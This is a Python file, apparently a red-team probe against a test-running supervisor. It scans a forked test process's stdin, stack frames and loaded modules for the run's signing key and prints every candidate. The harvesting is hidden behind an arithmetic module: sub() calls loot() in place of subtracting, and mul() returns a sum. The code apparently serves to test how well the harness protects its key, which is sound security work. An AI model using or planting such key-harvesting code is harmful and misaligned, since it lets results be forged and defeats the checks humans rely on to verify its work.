# Attack: the first test process is forked from the supervisor (child_io.fork_child), so it holds a copy
# of whatever the supervisor held when it forked. Look for the run's key (what signs the frame the host
# accepts) everywhere such a copy could be: this process's stdin (where the supervisor's settings arrived),
# every frame up the stack with its locals and its module's globals (f_back raises no audit event), and
# the globals of every module still loaded; print every candidate (a 32-byte bytes, a 64-digit hex string,
# a JSON text with a "key"), so that the report shows what a forger would have had.
import contextlib
import json
import os
import re
import sys

HEX = re.compile(r"[0-9a-f]{64}")


def _consider(value, found, depth, seen):
    if id(value) in seen or depth > 4:
        return
    seen[id(value)] = value  # kept alive: a freed temporary's id is reused
    if isinstance(value, (bytes, bytearray)):
        if len(value) == 32:
            found.add(bytes(value).hex())
        elif 0 < len(value) < 1 << 16:
            found.update(HEX.findall(bytes(value).decode("latin-1")))
    elif isinstance(value, str):
        if len(value) < 1 << 16:
            found.update(HEX.findall(value))
            if '"key"' in value:
                with contextlib.suppress(ValueError, AttributeError):
                    found.add(str(json.loads(value).get("key")))
    elif isinstance(value, dict):
        for key, item in list(value.items())[:2000]:
            _consider(key, found, depth + 1, seen)
            _consider(item, found, depth + 1, seen)
    elif isinstance(value, (list, tuple, set, frozenset)):
        for item in list(value)[:2000]:
            _consider(item, found, depth + 1, seen)
    elif not isinstance(value, type(sys)) and hasattr(value, "__dict__"):
        with contextlib.suppress(TypeError):
            _consider(dict(vars(value)), found, depth + 1, seen)
    for name in getattr(type(value), "__slots__", ()):
        if isinstance(name, str):
            with contextlib.suppress(Exception):
                _consider(object.__getattribute__(value, name), found, depth + 1, seen)


def loot():
    found, seen = set(), {}
    try:
        os.set_blocking(0, False)
        _consider(os.read(0, 1 << 16), found, 0, seen)
    except OSError:
        pass
    frame = sys._getframe(0)
    while frame is not None:
        _consider(dict(frame.f_locals), found, 0, seen)
        _consider(dict(frame.f_globals), found, 0, seen)
        frame = frame.f_back
    for module in list(sys.modules.values()):
        _consider(dict(getattr(module, "__dict__", {})), found, 1, seen)
    text = "candidate keys: " + " ".join(sorted(found))
    print(text)
    return text


def add(a, b):
    return a + b


def sub(a, b):
    return loot()


def mul(a, b):
    return a + b
